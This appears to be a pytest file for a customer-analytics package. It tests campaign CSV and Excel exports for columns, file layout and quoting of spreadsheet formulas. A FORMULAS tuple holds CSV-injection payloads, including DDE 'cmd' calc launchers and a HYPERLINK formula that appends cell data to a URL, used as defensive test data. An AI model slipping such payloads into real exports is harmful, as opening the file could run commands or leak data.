"""Campaign files: the columns a mailing tool takes, one file per action, nothing half-written."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from lgs_analytics import outputs
from lgs_analytics.report import campaigns
from tests.analytics.test_campaign import listed


def test_a_file_per_action_whose_rows_add_up_to_the_plan(tmp_path):
    links = campaigns.write_for_report(listed(), tmp_path / "out", "report_campaigns")
    assert links["At Risk"] == "report_campaigns/campaign-at-risk.csv"
    at_risk = pd.read_csv(tmp_path / "out" / "campaign-at-risk.csv")
    assert list(at_risk.columns) == list(campaigns.FILE_COLUMNS.values())
    assert list(at_risk["customer_id"]) == [2, 3] and at_risk["spend_gbp"].sum() == 5500.0
    assert list(at_risk["chance_no_order_90d"]) == [0.62, 0.93]
    lost = pd.read_csv(tmp_path / "out" / "campaign-churn-alerts-long-lost.csv")
    assert list(lost["customer_id"]) == [3] and lost["churn_group"].tolist() == ["long lost"]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        campaigns.campaign.action_plan(listed())["file"])  # nothing else: no partial file left


def test_nothing_is_written_without_a_folder(tmp_path):
    assert campaigns.write_for_report(listed(), None, None) is None


def test_a_workbook_has_the_same_rows(tmp_path):
    campaigns.write_rows(listed(), tmp_path / "all.xlsx")
    rows = pd.read_excel(tmp_path / "all.xlsx", engine="calamine")
    assert len(rows) == 4 and rows["last_order"].astype(str).str.fullmatch(r"\d{4}-\d{2}-\d{2}").all()


def test_an_unknown_suffix_is_refused_before_writing(tmp_path):
    with pytest.raises(ValueError, match="give a .csv or .xlsx file name"):
        campaigns.write_rows(listed(), tmp_path / "list.json")
    assert list(tmp_path.iterdir()) == []


# Text that a spreadsheet runs as a formula (OWASP "CSV injection"), as an export could spell a country.
FORMULAS = ('=HYPERLINK("http://x/?"&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
HARMLESS = ("United Kingdom", "http://x.example/", "", "'already quoted")


def hostile() -> pd.DataFrame:
    """Ten campaign rows whose countries are the payloads and harmless texts; one spend is negative."""
    rows = pd.concat([listed()] * 3, ignore_index=True).iloc[:len(FORMULAS) + len(HARMLESS)].copy()
    rows["country"] = FORMULAS + HARMLESS
    rows.loc[0, "spend"] = -12.5
    return rows


def test_text_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers():
    out = outputs.spreadsheet_safe(pd.DataFrame({"text": [*FORMULAS, *HARMLESS, None],
                                                   "number": [-2.5] * (len(FORMULAS) + len(HARMLESS) + 1)}))
    assert list(out["text"][:-1]) == ["'" + f for f in FORMULAS] + list(HARMLESS)
    assert pd.isna(out["text"].iloc[-1])
    assert out["number"].dtype == float and (out["number"] == -2.5).all()


def test_a_csv_quotes_every_formula(tmp_path):
    import csv

    campaigns.write_rows(hostile(), tmp_path / "list.csv")
    with open(tmp_path / "list.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["country"] for r in rows] == ["'" + f for f in FORMULAS] + list(HARMLESS)
    assert rows[0]["spend_gbp"] == "-12.5"  # a number, not "'-12.5"
    assert (tmp_path / "list.csv").read_bytes().decode() == campaigns.csv_text(hostile())  # the downloads'


def test_a_carriage_return_inside_a_cell_does_not_start_a_row(tmp_path):
    import csv

    rows = hostile().assign(country="United Kingdom\r=1+1")
    campaigns.write_rows(rows, tmp_path / "list.csv")
    with open(tmp_path / "list.csv", newline="", encoding="utf-8") as fh:
        read = list(csv.reader(fh))
    assert len(read) == len(rows) + 1 and {r[5] for r in read[1:]} == {"United Kingdom\r=1+1"}


def test_the_reports_files_quote_every_formula(tmp_path):
    rows = listed().assign(country=FORMULAS[0])
    campaigns.write_for_report(rows, tmp_path, "x")
    for path in tmp_path.iterdir():
        assert set(pd.read_csv(path)["country"]) == {"'" + FORMULAS[0]}


def test_a_workbook_holds_formulas_as_text_never_as_formulas(tmp_path):
    import re
    import zipfile

    path = campaigns.write_rows(hostile(), tmp_path / "list.xlsx")
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet and "<f " not in sheet  # no cell is a formula (openpyxl's data_type "f")
    assert "<hyperlink" not in sheet and not any("worksheets/_rels" in n for n in names)  # nor a link
    country = list(campaigns.FILE_COLUMNS.values()).index("country")
    column = chr(ord("A") + country)
    cells = re.findall(rf'<c r="{column}(\d+)"([^>]*)>', sheet)
    assert all('t="s"' in attrs for row, attrs in cells if row != "1" and int(row) <= len(FORMULAS) + 1)
    read = pd.read_excel(path, engine="calamine", keep_default_na=False)
    assert list(read["country"][:len(FORMULAS)]) == ["'" + f for f in FORMULAS]
    assert read["spend_gbp"][0] == -12.5


def test_a_file_says_when_a_customer_is_due_back(tmp_path):
    rows = listed().assign(usual_gap_days=pd.array([20, None, None, None], dtype="Int64"),
                           due_from=pd.to_datetime(["2011-06-10", None, None, None]),
                           due_to=pd.to_datetime(["2011-06-16", None, None, None]),
                           due_status=pd.array(["overdue", None, None, None], dtype="string"))
    text = campaigns.csv_text(rows).splitlines()
    offers = "," * 6  # the offer columns after the due columns: empty without recommendations
    assert text[1].endswith(",20,2011-06-10,2011-06-16,overdue" + offers)
    assert text[2].endswith(",,,," + offers)  # no date: empty cells, not NaT


def test_a_file_carries_each_customer_s_first_three_products():
    rows = listed().assign(offer_1_code=pd.array(["23552", None, None, None], dtype="string"),
                           offer_1=pd.array(["PUNCTURE KIT", None, None, None], dtype="string"),
                           offer_3_code=pd.array(["=HYPERLINK(1)", None, None, None], dtype="string"))
    read = pd.read_csv(io.StringIO(campaigns.csv_text(rows)), dtype=str, keep_default_na=False)
    assert list(read.columns[-6:]) == ["offer_1_code", "offer_1_description", "offer_2_code",
                                       "offer_2_description", "offer_3_code", "offer_3_description"]
    assert read.loc[0, ["offer_1_code", "offer_1_description"]].tolist() == ["23552", "PUNCTURE KIT"]
    assert read.loc[0, "offer_3_code"] == "'=HYPERLINK(1)"  # text from an export never runs as a formula
    assert read.loc[1, "offer_1_code"] == ""


def test_a_file_carries_the_customer_type_and_region_but_no_crm_attribute():
    rows = campaigns.file_rows(listed()).set_index("customer_id")
    assert rows.loc[1, "customer_type"] == "trade" and rows.loc[1, "region"] == "United Kingdom"
    assert rows.loc[3, "region"] == "EU"  # "EIRE"
    # age band, gender and area serve the suppressed breakdowns, never a file of named customers
    assert not {"age_band", "gender", "area"} & set(rows.columns)
